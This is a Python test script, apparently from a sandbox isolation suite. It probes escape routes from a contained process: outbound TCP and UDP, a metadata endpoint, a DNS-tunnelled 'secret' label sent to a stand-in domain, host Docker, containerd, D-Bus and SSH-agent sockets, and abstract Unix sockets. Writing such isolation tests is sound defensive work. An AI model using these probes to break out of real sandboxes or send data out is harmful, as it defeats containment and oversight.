"""Calls at every place where somebody of the host might listen, and tells them what it has."""

import glob
import os
import socket
import struct

from attack import attempt, done, works

SAYS = b"hello from inside"
PLACES = {name: os.environ.get(f"TRY_{name}", "") for name in
          ("TCP", "TCP6", "UDP", "UDP6", "RESOLVER", "METADATA", "ABSTRACT", "SOCKET")}


def pair(text):
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def stream(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as caller:
        caller.settimeout(2)
        caller.connect(address)
        caller.sendall(SAYS)
    return True


def datagram(family, address, said=SAYS):
    with socket.socket(family, socket.SOCK_DGRAM) as caller:
        caller.sendto(said, address)
    return False  # nobody answers; the referee knows


def question(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"


attempt("TCP", lambda: stream(socket.AF_INET, pair(PLACES["TCP"])))
attempt("TCP over IPv6", lambda: stream(socket.AF_INET6, pair(PLACES["TCP6"])))
attempt("metadata", lambda: stream(socket.AF_INET, pair(PLACES["METADATA"])))
attempt("UDP", lambda: datagram(socket.AF_INET, pair(PLACES["UDP"])))
attempt("UDP over IPv6", lambda: datagram(socket.AF_INET6, pair(PLACES["UDP6"])))
attempt("DNS", lambda: datagram(socket.AF_INET, pair(PLACES["RESOLVER"]), question("c2VjcmV0.tunnel.invalid")))
attempt("an abstract socket", lambda: stream(socket.AF_UNIX, "\0" + PLACES["ABSTRACT"][1:]))
attempt("a socket that is a file", lambda: stream(socket.AF_UNIX, PLACES["SOCKET"]))
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/run/snapd.socket", "/tmp/.X11-unix/X0", os.environ.get("SSH_AUTH_SOCK", "/none"),
             *glob.glob("/run/user/*/bus"), *glob.glob("/run/**/*.sock", recursive=True)):
    if not path.startswith("/run/cage"):
        attempt(path, lambda path=path: stream(socket.AF_UNIX, path))
with open("/proc/net/unix") as listed:
    for line in listed:
        name = line.split()[-1]
        if name.startswith("@"):
            attempt(f"the abstract socket {name}", lambda name=name: stream(socket.AF_UNIX, "\0" + name[1:]))
port = PLACES["TCP"].rpartition(":")[2]
for host in ("0.0.0.0", "localhost", "127.1.2.3", "::ffff:127.0.0.1"):
    attempt(f"TCP by {host}", lambda host=host: socket.create_connection((host, int(port)), 2).close() or True)
with open("/proc/net/dev") as listed:
    others = [line.split(":")[0].strip() for line in listed if ":" in line and "lo:" not in line]
    used = [each for each in others if each not in {"sit0", "tunl0", "ip6tnl0", "gre0"}]
    attempt(f"another network card: {used}", lambda: used)
if not used:  # with a card that leads somewhere enough is said already, and nothing is to leave this machine
    works("a name was resolved", lambda: socket.getaddrinfo("tunnel.invalid", 80))
done()
